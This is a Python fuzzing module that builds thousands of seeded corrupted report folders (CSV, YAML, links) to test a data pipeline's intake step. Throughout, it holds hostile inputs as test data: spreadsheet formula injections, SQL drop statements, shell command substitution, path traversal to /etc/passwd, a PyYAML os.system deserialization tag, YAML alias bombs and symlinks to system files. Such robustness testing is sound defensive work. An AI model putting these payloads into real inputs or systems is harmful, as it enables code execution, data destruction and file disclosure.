"""Bad reports by the thousand, drawn with a seed: what copying, editors, spreadsheets and malice leave.

Belongs here: how a report is spoilt. Does not belong here: what must become of it (`intake.py`).
Every spoiler starts from a good report of the repository, so that the damage is met deep inside and not
at the first byte.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from dagster_project.contracts.model import SHEET_COLUMNS
from dagster_project.ingest.find import FILES, NOT_FIGURES, ORIGIN, SHEET

Files = dict[str, bytes]
Spoiler = Callable[[random.Random, Files], None]
Writer = Callable[[random.Random, Path, Files], None]

FORMULAS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "=1+1\r",
    "＝1+1",
)
STATEMENTS = (
    "'; drop table raw.claims; --",
    "\"; attach 'x.db' as x; --",
    "') ; copy (select 1) to 'khuyencong-written' ; --",
    "{{ run_query('drop schema marts cascade') }}",
    "$(touch khuyencong-written)",
    "%s%n{0}{1.__class__}",
    "main.claims",
    'a"b',
)
PATHS = (
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "C:\\x",
    "a/../../b",
    "~root",
    "con",
    "a" * 300,
    "text\0.txt",
)
SIGNS = (
    *("\0", "\x01", "\x07", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\ufffd", "\ufeff"),
    *("\u202e", "\u200b", "\u0301", "٣", "一", "Ⅷ", "²", "½", "௧", "💥", "e\u0301", "İ", "ß", "ﬃ"),
    "\U000e0041",
)
WORDS = (
    *("now", "now/2015", "2008/now", "../2011", "P5Y/now", "P1Y", "2012-Q1", "2012-13", "2012-S3"),
    *("9999", "0000", "0000-00-00", "2023-12-15/2024-12-14", "2012/2008", "/", "?", "??"),
    *("2012??", "growth", "multiple", "share", "plan", "site_land:industrial-land", "thai-binh"),
    *("quang-tri/ccn-hai-le", "thai-binh/", "thai-binh/kcn-", "a/b/c", "viet-nam"),
    *("cluster operating", "vocational", "topic:tea", "topic:", ":", "trên", ">", "≥", "><"),
    *("khoảng", "hàng chục ngàn", "gấp đôi", "1,5 - 2", "5 - 1,5", "2.387,5", "1.2.3,4,5", "1e9"),
    *("NaN", "inf", "-0", "--5", "0x10", "1/0", "½", "triệu USD", "tỷ đồng", "nghìn lao động"),
    *("[cụm]", "[", "]", "%", "%/năm", "triệu", "tỷ", "nghìn", "ha/ha", "national", "local"),
    *("all", "total", "state", "actual", "estimate"),
)
TEXT = b"x 1\n" * 1000
"""What an article named `large.txt` says."""

SEPARATORS = (";", "\t", "|", ", ", ",,", "\x1f")


@dataclass(frozen=True)
class Kind:
    """One way of being bad. `group` names it on the page; `rare` kinds are dear and drawn seldom."""

    name: str
    group: str
    write: Writer
    rare: bool = False


KINDS: dict[str, Kind] = {}


def _put(folder: Path, files: Files) -> None:
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)


def spoiler(group: str, rare: bool = False) -> Callable[[Spoiler], Spoiler]:
    """Register a way to spoil the bytes of a report."""

    def register(spoil: Spoiler) -> Spoiler:
        def write(rng: random.Random, folder: Path, files: Files) -> None:
            spoil(rng, files)
            _put(folder, files)

        KINDS[spoil.__name__] = Kind(spoil.__name__, group, write, rare)
        return spoil

    return register


def placing(group: str) -> Callable[[Writer], Writer]:
    """Register a way to put a report down as something else than a folder of three files."""

    def register(write: Writer) -> Writer:
        KINDS[write.__name__] = Kind(write.__name__, group, write)
        return write

    return register


# --- bytes -------------------------------------------------------------------------------------------------


def _somewhere(rng: random.Random, data: bytes) -> int:
    return rng.randrange(len(data) + 1)


def _any_file(rng: random.Random, files: Files) -> str:
    return rng.choice((SHEET, SHEET, ORIGIN, NOT_FIGURES))


@spoiler("mutated bytes")
def flipped_bytes(rng: random.Random, files: Files) -> None:
    """A few bytes are other bytes."""
    name = _any_file(rng, files)
    data = bytearray(files[name])
    for _ in range(rng.choice((1, 1, 2, 5, 40))):
        data[rng.randrange(len(data))] = rng.randrange(256)
    files[name] = bytes(data)


@spoiler("mutated bytes")
def inserted_bytes(rng: random.Random, files: Files) -> None:
    """Bytes stand where none belong."""
    name = _any_file(rng, files)
    at = _somewhere(rng, files[name])
    more = rng.choice((rng.randbytes(rng.choice((1, 3, 50))), b"\0", b"\r", b'"', b"\xff\xfe", b"\n\n,,,\n"))
    files[name] = files[name][:at] + more + files[name][at:]


@spoiler("mutated bytes")
def cut_off(rng: random.Random, files: Files) -> None:
    """A file ends early."""
    name = _any_file(rng, files)
    files[name] = files[name][: _somewhere(rng, files[name])]


@spoiler("mutated bytes")
def piece_moved(rng: random.Random, files: Files) -> None:
    """A piece of a file stands elsewhere in it, or twice."""
    name = _any_file(rng, files)
    data = files[name]
    first, last = sorted((_somewhere(rng, data), _somewhere(rng, data)))
    piece, rest = data[first:last], data[:first] + data[last:]
    at = _somewhere(rng, rest)
    files[name] = rest[:at] + piece * rng.choice((1, 2)) + rest[at:]


@spoiler("mutated bytes")
def bits_zeroed(rng: random.Random, files: Files) -> None:
    """A piece of a file is zeros."""
    name = _any_file(rng, files)
    data = files[name]
    first, last = sorted((_somewhere(rng, data), _somewhere(rng, data)))
    files[name] = data[:first] + bytes(last - first) + data[last:]


@spoiler("mutated bytes")
def noise(rng: random.Random, files: Files) -> None:
    """A file is random bytes."""
    files[_any_file(rng, files)] = rng.randbytes(rng.choice((0, 1, 7, 300, 5000)))


@spoiler("mutated bytes")
def files_exchanged(rng: random.Random, files: Files) -> None:
    """Two of the three files have each other's names."""
    one, other = rng.sample(FILES, 2)
    files[one], files[other] = files[other], files[one]


@spoiler("NUL bytes")
def nul_bytes(rng: random.Random, files: Files) -> None:
    """NUL bytes stand in a file."""
    name = _any_file(rng, files)
    data = files[name]
    for _ in range(rng.choice((1, 1, 4))):
        at = _somewhere(rng, data)
        data = data[:at] + b"\0" * rng.choice((1, 1, 600)) + data[at:]
    files[name] = data


# --- encodings, headers, quotes ----------------------------------------------------------------------------


@spoiler("encodings")
def another_encoding(rng: random.Random, files: Files) -> None:
    """A file is written in another encoding."""
    name = _any_file(rng, files)
    text = files[name].decode()
    codec = rng.choice(("utf-16", "utf-16-le", "utf-32", "cp1258", "cp1252", "latin-1", "utf-7", "utf-8-sig"))
    files[name] = text.encode(codec, errors="replace")


@spoiler("encodings")
def half_characters(rng: random.Random, files: Files) -> None:
    """Bytes that are no UTF-8 stand in a file."""
    name = _any_file(rng, files)
    bad = rng.choice((b"\xc3", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xc0\xaf", b"\xe1\xba", b"\x80"))
    at = _somewhere(rng, files[name])
    files[name] = files[name][:at] + bad + files[name][at:]


@spoiler("headers")
def header_changed(rng: random.Random, files: Files) -> None:
    """Columns are missing, unknown, doubled, quoted or in another order."""
    head, _, rest = files[SHEET].decode().partition("\n")
    names = head.split(",")
    way = rng.randrange(7)
    if way == 0:
        names.pop(rng.randrange(len(names)))
    elif way == 1:
        rng.shuffle(names)
    elif way == 2:
        names.insert(rng.randrange(len(names)), rng.choice(("", "extra", *FORMULAS, *STATEMENTS)))
    elif way == 3:
        names[rng.randrange(len(names))] = rng.choice(("Value", " value", "giá trị", "", *STATEMENTS))
    elif way == 4:
        names = names * rng.choice((2, 700))
    elif way == 5:
        names = [f'"{name}"' for name in names]
    else:
        names = [rng.choice(names)] * len(names)
    files[SHEET] = f"{','.join(names)}\n{rest}".encode()


@spoiler("headers")
def header_gone_or_twice(rng: random.Random, files: Files) -> None:
    """The header is missing, stands twice or further down."""
    head, _, rest = files[SHEET].decode().partition("\n")
    files[SHEET] = rng.choice(
        (rest, f"{head}\n{head}\n{rest}", f"\n\n{head}\n{rest}", f"title\n{head}\n{rest}")
    ).encode()


@spoiler("quoting")
def other_separator(rng: random.Random, files: Files) -> None:
    """Cells are separated by something else."""
    name = rng.choice((SHEET, NOT_FIGURES))
    text = files[name].decode()
    files[name] = text.replace(",", rng.choice(SEPARATORS), rng.choice((-1, 1, 20))).encode()


@spoiler("quoting")
def stray_quotes(rng: random.Random, files: Files) -> None:
    """Double quotes and line ends stand where none belong."""
    name = rng.choice((SHEET, SHEET, NOT_FIGURES))
    text = files[name].decode()
    for _ in range(rng.choice((1, 1, 2, 9))):
        at = rng.randrange(len(text) + 1)
        text = text[:at] + rng.choice(('"', '""', '"\n', ',"', '",', "'", "\\", '"\r\n"')) + text[at:]
    files[name] = text.encode()


@spoiler("quoting")
def other_line_ends(rng: random.Random, files: Files) -> None:
    """Lines end with something else."""
    name = _any_file(rng, files)
    ends = rng.choice((b"\r", b"\r\r\n", b"\x85", b"\x0b", b"\x0c", "\u2028".encode(), b"\n\r", b" "))
    files[name] = files[name].replace(b"\n", ends, rng.choice((-1, 1, 3)))


# --- cells -------------------------------------------------------------------------------------------------


def _table(files: Files) -> list[list[str]]:
    return list(csv.reader(io.StringIO(files[SHEET].decode(), newline="")))


def _store(files: Files, rows: list[list[str]]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows(rows)
    files[SHEET] = text.getvalue().encode(errors="replace")


def _into_cells(rng: random.Random, files: Files, draw: Callable[[str], str], times: int) -> None:
    rows = _table(files)
    for _ in range(times):
        row = rng.choice(rows[1:])
        at = rng.randrange(len(SHEET_COLUMNS))
        row[at] = draw(row[at])
    _store(files, rows)


@spoiler("formulas in cells")
def formulas(rng: random.Random, files: Files) -> None:
    """Cells hold formulas of a spreadsheet."""
    _into_cells(rng, files, lambda _: rng.choice(FORMULAS), rng.choice((1, 3, 12)))


@spoiler("statements and paths in cells")
def statements(rng: random.Random, files: Files) -> None:
    """Cells hold statements of SQL, Jinja, a shell or format strings."""
    _into_cells(rng, files, lambda _: rng.choice(STATEMENTS), rng.choice((1, 3, 12)))


@spoiler("statements and paths in cells")
def paths_in_cells(rng: random.Random, files: Files) -> None:
    """Cells hold paths."""
    _into_cells(rng, files, lambda _: rng.choice(PATHS), rng.choice((1, 3, 12)))


@spoiler("odd cells")
def odd_signs(rng: random.Random, files: Files) -> None:
    """Cells hold control characters, other alphabets, marks without a letter."""

    def draw(cell: str) -> str:
        at = rng.randrange(len(cell) + 1)
        return cell[:at] + rng.choice(SIGNS) * rng.choice((1, 1, 3)) + cell[at:]

    _into_cells(rng, files, draw, rng.choice((1, 4, 15)))


@spoiler("odd cells")
def words_in_wrong_places(rng: random.Random, files: Files) -> None:
    """Cells hold words that belong into other columns."""

    def draw(cell: str) -> str:
        return rng.choice((" ", "", ",", "/", "?")).join(
            rng.choice((cell, *WORDS)) for _ in range(rng.randrange(4))
        )

    _into_cells(rng, files, draw, rng.choice((1, 5, 30)))


@spoiler("odd cells")
def digits_changed(rng: random.Random, files: Files) -> None:
    """Cells hold digits and signs in any order."""

    def draw(cell: str) -> str:
        digits = "0123456789.,-+ eE%/"
        return "".join(rng.choice(digits) for _ in range(rng.choice((1, 3, 8, 30, 60))))

    _into_cells(rng, files, draw, rng.choice((1, 5, 30)))


@spoiler("sizes")
def long_cells(rng: random.Random, files: Files) -> None:
    """Cells are very long."""
    size = rng.choice((200, 5_000, 60_000, 131_073))
    text = rng.choice(
        (
            "9",
            "9.",
            "1,",
            "a",
            " ",
            "?",
            "-",
            "năm ",
            "triệu ",
            "trên ",
            "2012/",
            "topic:tea ",
            "[",
            "a/",
            "💥",
            "P1Y",
            "=1+",
            '"',
        )
    )
    _into_cells(rng, files, lambda _: (text * size)[:size], rng.choice((1, 2)))


@spoiler("row widths")
def row_widths(rng: random.Random, files: Files) -> None:
    """Rows have too few or too many cells."""
    rows = _table(files)
    for _ in range(rng.choice((1, 3, len(rows)))):
        row = rng.choice(rows[1:])
        if rng.random() < 0.5:
            del row[rng.randrange(len(row) + 1) :]
        else:
            row.extend(rng.choice(WORDS) for _ in range(rng.choice((1, 5, 400))))
    _store(files, rows)


@spoiler("row widths")
def rows_repeated(rng: random.Random, files: Files) -> None:
    """Rows stand several times, their numbers wrong as well."""
    rows = _table(files)
    rows[1:] = [list(rng.choice(rows[1:])) for _ in range(rng.choice((1, 5, 300)))]
    if rng.random() < 0.5:
        for row in rows[1:]:
            row[0] = rng.choice(("", "0", "-1", "1", "001", "1.0", "9" * 30, "１", "1e3"))
    _store(files, rows)


@spoiler("row widths")
def not_figures_wrong(rng: random.Random, files: Files) -> None:
    """The list of other numbers has wrong lines and widths."""
    rows = [
        rng.choice(("1,2012,a year", "0,a,b", "-1,,", "9999999999,1,x", ",,", "1,2", "a,b,c,d", '"1\n",x,y'))
        for _ in range(9)
    ]
    files[NOT_FIGURES] = "\n".join(("line,token,why", *rows, "")).encode()


# --- report.yaml -------------------------------------------------------------------------------------------


@spoiler("YAML: depth and bombs")
def yaml_deep(rng: random.Random, files: Files) -> None:
    """The origin record is nested very deeply."""
    levels = rng.choice((9, 100, 1_500, 15_000, 30_000))
    opening, closing = rng.choice((("[", "]"), ("{a: ", "}"), ("- ", ""), ("? ", ""), ("[", ""), ("{", "")))
    levels = min(levels, 60_000 // (len(opening) + len(closing)))
    text = (opening * levels + "x" + closing * levels).encode()
    files[ORIGIN] = rng.choice((text, files[ORIGIN] + b"deep: " + text, b"? " + text + b"\n: 1\n"))


@spoiler("YAML: depth and bombs")
def yaml_bombs(rng: random.Random, files: Files) -> None:
    """The origin record grows without end when aliases are followed, or has thousands of names."""
    laughs = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
        b"%c: &%c [%s]\n" % (c, c, b", ".join([b"*%c" % (c - 1)] * 9)) for c in range(ord("b"), ord("j"))
    )
    files[ORIGIN] = rng.choice(
        (
            laughs + files[ORIGIN],
            files[ORIGIN] + b"self: &self [*self]\n",
            files[ORIGIN] + b"m: &m {<<: *m}\n",
            b"&a ? &b [*a]\n: *b\n",
            files[ORIGIN] + b"<<: [{a: b}, {a: c}]\n",
            b"{" + b",".join(b"%x" % n for n in range(13_000)) + b"}",
            b"\n".join(b"k%d: 1" % n for n in range(6_000)),
            b"a" * 65_000,
            b"a: " + b"'" * 65_001,
            b"a: |" + b"9" * 60_000,
            b"%YAML 9.9\n---\n" + files[ORIGIN],
            files[ORIGIN] + b"---\n" + files[ORIGIN],
        )
    )


TAGGED = (
    "!!python/object/apply:os.system ['touch khuyencong-written']",
    "!!python/name:os.system",
    "!!bool maybe",
    "!!int ''",
    "!!map [x]",
    "!!binary '@@@'",
    "!!timestamp 2001-99-99",
    "!!set {x}",
    "!!omap [x]",
    "! x",
    "!<tag:example.org,2000:x> y",
    "*nobody",
)
VALUES = (
    "null",
    "~",
    "''",
    "[]",
    "{}",
    "[[[]]]",
    "[null]",
    "{a: b}",
    "yes",
    "0",
    "-1",
    "1.5",
    "99999999999999999999",
    "2013-02-30",
    "0000-00",
    "٢٠١٣",
    "[1, 2]",
    "[[1]]",
    "[[1, 2, 3]]",
    "[[9, 3]]",
    "[[1, 999999999]]",
    "[['1-999999999']]",
    "1-999999999",
    '"\\0"',
    '"a\\nb"',
    '"\\uFFFF\\u202e"',
    '"\\ud800"',
    "|\n  a\n  b",
    "x" * 5000,
    *TAGGED,
)


@spoiler("YAML: tags and types")
def yaml_values(rng: random.Random, files: Files) -> None:
    """Fields of the origin record hold tags, other types and hostile texts."""
    lines = files[ORIGIN].decode().splitlines()
    places = [n for n, line in enumerate(lines) if ":" in line and not line.startswith("#")]
    for n in rng.sample(places, min(len(places), rng.choice((1, 1, 3, 9)))):
        name = lines[n].partition(":")[0]
        value = rng.choice((*VALUES, *(repr(p) for p in (*PATHS, *FORMULAS, *STATEMENTS))))
        lines[n] = f"{name}: {value}"
    files[ORIGIN] = "\n".join((*lines, "")).encode(errors="replace")


@spoiler("YAML: tags and types")
def yaml_names(rng: random.Random, files: Files) -> None:
    """Fields of the origin record are missing, doubled, indented or complex keys."""
    lines = files[ORIGIN].decode().splitlines()
    for _ in range(rng.choice((1, 3))):
        n = rng.randrange(len(lines))
        way = rng.randrange(4)
        if way == 0:
            lines.pop(n)
        elif way == 1:
            lines.insert(n, lines[n])
        elif way == 2:
            lines[n] = rng.choice(
                ("? [a, b]", "? {a: b}", ": x", "'': x", "<<: {a: b}", "a b: c: d", "- x", "\tx: y")
            )
        else:
            lines[n] = " " * rng.randrange(5) + lines[n]
        if not lines:
            break
    files[ORIGIN] = "\n".join((*lines, "")).encode()


@spoiler("`..` and odd names in source")
def source_names(rng: random.Random, files: Files) -> None:
    """The origin record names a file outside the folder of texts, or lines that are not there."""
    text = files[ORIGIN].decode()
    name = rng.choice((*PATHS, ".", "raw", "report.yaml", "link-out", "folder", "large.txt"))
    quoted = '"' + name.replace("\\", "\\\\").replace("\0", "\\0") + '"'
    kept = [line for line in text.splitlines() if not line.startswith(("source", "transcription", " "))]
    first = rng.choice((1, 5, 999_999_999))
    sha256 = rng.choice(("0" * 64, "F" * 64, "g" * 64, hashlib.sha256(TEXT).hexdigest()))
    source = f"{{file: {quoted}, sha256: '{sha256}', lines: [[{first}, 999999999]], "
    source += "title_lines: [[1, 999999999]], caption_lines: [], complete: true}"
    made = "{by: x, 'on': 2026-01-31, checked_by: null}"
    files[ORIGIN] = "\n".join((*kept, f"source: {source}", f"transcription: {made}", "")).encode()


# --- folders and links -------------------------------------------------------------------------------------


@placing("links")
def folder_is_a_link(rng: random.Random, folder: Path, files: Files) -> None:
    """The folder of the report is a link."""
    folder.symlink_to(rng.choice(("/etc", "..", ".", folder.name, "/nowhere", "/proc/self", "../outside")))


@placing("links")
def file_is_a_link(rng: random.Random, folder: Path, files: Files) -> None:
    """A file of the report is a link."""
    _put(folder, files)
    name = rng.choice(FILES)
    (folder / name).unlink()
    aims = (
        "/etc/passwd",
        "/dev/zero",
        "/dev/full",
        name,
        "/nowhere",
        "/proc/self/mem",
        "../../outside/secret.txt",
    )
    (folder / name).symlink_to(rng.choice(aims))


@placing("folders where files should be")
def file_is_no_file(rng: random.Random, folder: Path, files: Files) -> None:
    """A folder, pipe or socket stands in the place of a file."""
    _put(folder, files)
    path = folder / rng.choice(FILES)
    path.unlink()
    way = rng.randrange(3)
    if way == 0:
        path.mkdir()
        (path / "figures.csv").write_bytes(files[SHEET])
    elif way == 1:
        os.mkfifo(path)
    else:
        before = os.getcwd()
        try:  # a socket's path may not be long
            os.chdir(folder)
            with socket.socket(socket.AF_UNIX) as listener:
                listener.bind(path.name)
        finally:
            os.chdir(before)


@placing("folders where files should be")
def files_missing(rng: random.Random, folder: Path, files: Files) -> None:
    """Files are missing or misnamed."""
    for name in rng.sample(FILES, rng.randrange(1, 4)):
        files.pop(name)
    _put(folder, files)
    if rng.random() < 0.5:
        (folder / rng.choice(("figures.csv.csv", "Figures.csv", ".figures.csv", "figures"))).write_bytes(b"x")


NAMES = (
    b"...",
    b"-rf",
    b"--help",
    b"a b",
    b" a",
    b"Thai-Binh",
    "thái-bình".encode(),
    b"a'b",
    b'a"b',
    b"a;b",
    b"a\nb",
    b"a\x1b[31mb",
    b"a\\b",
    b"$(id)",
    b"*",
    b"%s",
    b"{0}",
    b"=1+1",
    b"a--b",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    "a\u202eb".encode(),
    b"con.txt",
    b"x.duckdb",
)


@placing("folder names")
def odd_folder_name(rng: random.Random, folder: Path, files: Files) -> None:
    """The folder of the report has an odd name."""
    number = folder.name.rpartition("-")[2].encode()
    long = (b"a" * 90, b"a" * 240)
    name = rng.choice((*(n + b" " + number for n in NAMES), *(n + number for n in long)))
    _put(Path(os.fsdecode(os.path.join(os.fsencode(folder.parent), name))), files)


# --- sizes -------------------------------------------------------------------------------------------------

MIB = 1024 * 1024


def _large_sheets() -> dict[str, Callable[[int], bytes]]:
    head = ",".join(SHEET_COLUMNS).encode() + b"\n"
    row = b"1,12,establishments,,,thai-binh,enterprise,2012,x,actual,,,568,doanh nghi\xe1\xbb\x87p,\n"
    return {
        "narrow rows": lambda size: head + b"a\n" * (size // 2),
        "empty rows": lambda size: head + b"1,,,,,,,,,,,,,,\n" * (size // 16),
        "blank rows": lambda size: head + b",,,,,,,,,,,,,,\n" * (size // 15),
        "the same row": lambda size: head + row * (size // len(row)),
        "one cell": lambda size: head + b'"' + b"9" * size + b'"',
        "one line": lambda size: head + b"," * size,
        "line ends": lambda size: head + b"\n" * size,
        "quotes": lambda size: head + b'"' * size,
        "zeros": lambda size: bytes(size),
        "no end of header": lambda size: head[:-1] + b",x" * (size // 2),
        "long cells": lambda size: head + (b'1,1,"' + b"9" * 60_000 + b'",,,,,,,,,,,,\n') * (size // 60_020),
    }


LARGE = _large_sheets()


@spoiler("sizes", rare=True)
def large_sheet(rng: random.Random, files: Files) -> None:
    """A sheet is large."""
    size = rng.choice((1, 1, 1, 3, 8)) * MIB
    files[rng.choice((SHEET, SHEET, NOT_FIGURES))] = LARGE[rng.choice(list(LARGE))](size)


@spoiler("sizes", rare=True)
def large_origin(rng: random.Random, files: Files) -> None:
    """An origin record is large."""
    size = rng.choice((65_536, 65_537, 1 * MIB))
    text = rng.choice((b"#", b"a: b\n", b"[", b"x", b" ", b"\n"))
    files[ORIGIN] = files[ORIGIN] + (text * size)[: size - len(files[ORIGIN])]


def largest(number: int, size: int, files: Files) -> str:
    """Spoil a report with the large sheet of this number, of `size` bytes; returns which kind it is."""
    name = list(LARGE)[number % len(LARGE)]
    files[SHEET] = LARGE[name](size)
    return name


# --- drawing -----------------------------------------------------------------------------------------------


def good_reports(raw: Path) -> list[Files]:
    """The three files of every report folder of `raw`."""
    folders = sorted(p for p in raw.iterdir() if (p / SHEET).is_file())
    return [{name: (folder / name).read_bytes() for name in FILES} for folder in folders]


Drawn = tuple[str, Kind, int]
"""Name, kind and seed of one bad report."""


def draw(seed: int, count: int) -> Iterator[Drawn]:
    """The bad reports of a seed; of the `rare` kinds a hundredth of the others."""
    rng = random.Random(seed)
    kinds = list(KINDS.values())
    weights = [1 if kind.rare else 100 for kind in kinds]
    for number in range(count):
        kind = rng.choices(kinds, weights)[0]
        yield f"bad-{number}", kind, rng.randrange(2**63)


def renamed(files: Files, report_id: str) -> Files:
    """The same report under another id, so that only the damage is wrong with it."""
    lines = files[ORIGIN].decode().splitlines()
    lines = [f"report_id: {report_id}" if line.startswith("report_id:") else line for line in lines]
    return {**files, ORIGIN: "\n".join((*lines, "")).encode()}
